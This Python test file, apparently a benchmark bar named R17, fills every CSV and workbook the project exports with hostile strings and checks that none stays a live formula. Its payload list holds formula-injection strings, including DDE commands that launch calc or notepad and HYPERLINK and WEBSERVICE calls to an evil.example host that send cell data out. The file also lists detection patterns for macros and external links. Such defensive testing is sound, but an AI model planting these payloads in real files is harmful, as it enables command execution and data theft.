"""R17: hostile words in every file that is made, read again as a spreadsheet would read it."""

import csv
import io
import random
import re
import tempfile
import zipfile
from collections.abc import Iterator
from functools import partial
from operator import itemgetter
from pathlib import Path
from xml.etree import ElementTree

from bench.bars import Bar, Result, share
from bot.commands.template import template
from bot.documents import delimited, workbooks
from bot.documents.list_workbooks import write_list
from bot.documents.sheets import ListColumn
from bot.making.kinds import IMPORTABLE, MAKES
from bot.making.lists import ListRequest
from bot.making.writing import write_csv, write_workbook
from domain.operations.imports import Changes, Entry, ImportedVisit, Support
from domain.people.organisations import Organisation, OrganisationKind
from domain.people.people import Appointment, Person, Role
from domain.visits.visits import Type
from storage.engine.database import Database
from storage.store import Store
from tests import databases
from tests.make import NOW, TODAY
from tests.seed import DOMAIN

STRINGS, COLUMNS, WIDTHS = 10_000, 10, 20
# What makes a cell a formula: OWASP's list, with the wide forms that a Japanese Excel takes.
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
BEFORE = ("", "", "", "", '"', "'", ",", '",', ";", "\ufeff", "\x0b", "\x1f", "\ud800", "\u200b")
BODIES = (
    *("1+1", "A1", "SUM(A1:A9)*cmd|' /C calc'!A0", "cmd|' /C notepad'!'A1'", "1\n=2+3", "1\r=2+3"),
    *('HYPERLINK("http://evil.example?x="&A1,"Open")', 'WEBSERVICE("http://evil.example")', ""),
    *("<f>1+1</f>", '</t></is></c><c r="A1"><f>1</f>', "]]>", "&#61;1+1", "_x003D_1", '","=1+1'),
)
# What a validation names and no cell counts: where a start sheet's drop-downs lie, and bounds; and
# what a sheet of a list names: its headings and first columns.
OWN = re.compile(r"Lists!\$([A-Z]{1,2})\$1:\$\1\$\d+|\d+|('[^'\[\]]{1,31}')!\$A:\$B,\2!\$1:\$1")
NAMES = ("formula1", "formula2", "definedName")
# Parts and elements with which a workbook reaches outside itself, or counts for itself.
OUTSIDE = ("externallink", "vbaproject", "macrosheet", "connections", "querytable", "embeddings")
COUNTS = ("f", "ddeLink", "oleLink", "hyperlink", "definedName", "webPublishItem")


def run(size: float, seed: int) -> Result:
    """Each string in a cell of each file that can be made."""
    strings = hostile(share(STRINGS, size), random.Random(seed))
    live = {name: _live(name, content) for name, content in _made(strings)}
    files, found = len(live), {name: cells for name, cells in live.items() if cells}
    told = "; ".join(f"{name}: {len(cells)}, {cells[0]!r}" for name, cells in found.items())
    seen = f"{len(strings)} strings in {files} kinds of file: {sum(map(len, found.values()))} live"
    return Result(f"{seen} ({told})" if told else seen, not found and files >= 2 * len(MAKES) + 4)


def hostile(count: int, dice: random.Random) -> list[str]:
    """So many strings that a spreadsheet could take for a formula."""
    return [
        dice.choice(BEFORE) + dice.choice(LIVE) + dice.choice(BODIES) + str(dice.randrange(1_000))
        for _ in range(count)
    ]


def _made(strings: list[str]) -> Iterator[tuple[str, bytes]]:
    """Every kind of file that the bot and its command line make, filled with them."""
    header, *rows = (strings[at : at + COLUMNS] for at in range(0, len(strings), COLUMNS))
    yield "table.csv", delimited.write(header, rows)
    yield "table.xlsx", workbooks.write(header, rows)
    yield "list.xlsx", _list(header, rows)
    with tempfile.TemporaryDirectory() as folder:
        database = databases.started(Path(folder))
        database.write_now(lambda store: store.imports.write(_named(strings), NOW))
        yield "start.xlsx", _start_sheet(database, Path(folder) / "start.xlsx")
        for kind in MAKES:
            yield f"{kind}.xlsx", database.read_now(partial(_file, kind, as_table=False))
            yield f"{kind}.csv", database.read_now(partial(_file, kind, as_table=True))
        database.close()


def _file(kind: str, store: Store, *, as_table: bool) -> bytes:
    """A list as it is made for whoever may read all of it."""
    out, list_ = io.BytesIO(), MAKES[kind]
    roles = frozenset({Appointment(Role.OFFICER, None), Appointment(Role.LEADER, None)})
    wanted = ListRequest(Person(1, "Samira Iqbal", "", roles), NOW)
    if as_table:
        write_csv(IMPORTABLE.get(kind, list_.table), wanted, store, out)
    else:
        write_workbook(list_, wanted, store, out)
    return out.getvalue()


def _list(header: list[str], rows: list[list[str]]) -> bytes:
    columns = [
        ListColumn(word, word, WIDTHS, itemgetter(place)) for place, word in enumerate(header)
    ]
    out = io.BytesIO()
    write_list(out, header[0], columns, iter(rows), lambda _rows: [(header[1], header[2])])
    return out.getvalue()


def _named(strings: list[str]) -> Changes:
    """People, schools and support of these names, and records of these words.

    As far as the database takes them.
    """
    kinds = (OrganisationKind.SCHOOL, OrganisationKind.TRUST)
    told = [text.encode("utf-8", "replace").decode().replace("\0", "") for text in strings]
    places = tuple(
        Organisation(-n, kinds[n % 2], text, urn=100_000 + n, town=text)
        for n, text in enumerate(told, 1)
    )
    people = tuple(
        Entry(-n, f"{n}@{DOMAIN}", text, frozenset({Appointment(Role.LEADER, -n)}))
        for n, text in enumerate(told, 1)
    )
    deployments = tuple(
        Support(-n, -n, text, frozenset({-n}), TODAY, objectives=(text,), programme=text)
        for n, text in enumerate(told, 1)
    )
    visits = tuple(
        ImportedVisit(-n, -n, TODAY, Type.VISIT, 60, did=text, next_step=text)
        for n, text in enumerate(told, 1)
    )
    return Changes(organisations=places, people=people, deployments=deployments, visits=visits)


def _start_sheet(database: Database[Store], path: Path) -> bytes:
    template(database, path, TODAY, lambda _sentence: None)
    return path.read_bytes()


def _live(name: str, content: bytes) -> list[str]:
    return live_in_csv(content) if name.endswith(".csv") else live_in_workbook(content)


def live_in_csv(content: bytes) -> list[str]:
    """The cells that a spreadsheet would count."""
    text = content.decode("utf-8-sig", "replace")
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(LIVE)]


def live_in_workbook(content: bytes) -> list[str]:
    """What a spreadsheet would count or fetch: formulas, links, parts of other programs."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        names = parts.namelist()
        trees = [ElementTree.fromstring(parts.read(n)) for n in names if n.endswith(".xml")]
        links = [n for n in names if n.endswith(".rels") and b'"External"' in parts.read(n)]
    found = links + [name for name in names if any(word in name.lower() for word in OUTSIDE)]
    for element in (each for tree in trees for each in tree.iter()):
        tag = element.tag.rpartition("}")[2]
        own = tag in NAMES and OWN.fullmatch(element.text or "")
        counts = tag in COUNTS or tag.startswith("formula") or element.get("t") == "str"
        if counts and not own:
            found.append(f"{tag} {element.text or ''}"[:80])
    return found


BAR = Bar(
    "R17",
    "10,000 strings that a spreadsheet could count, in every CSV file and workbook that is made",
    "0 live formulas",
    run,
)
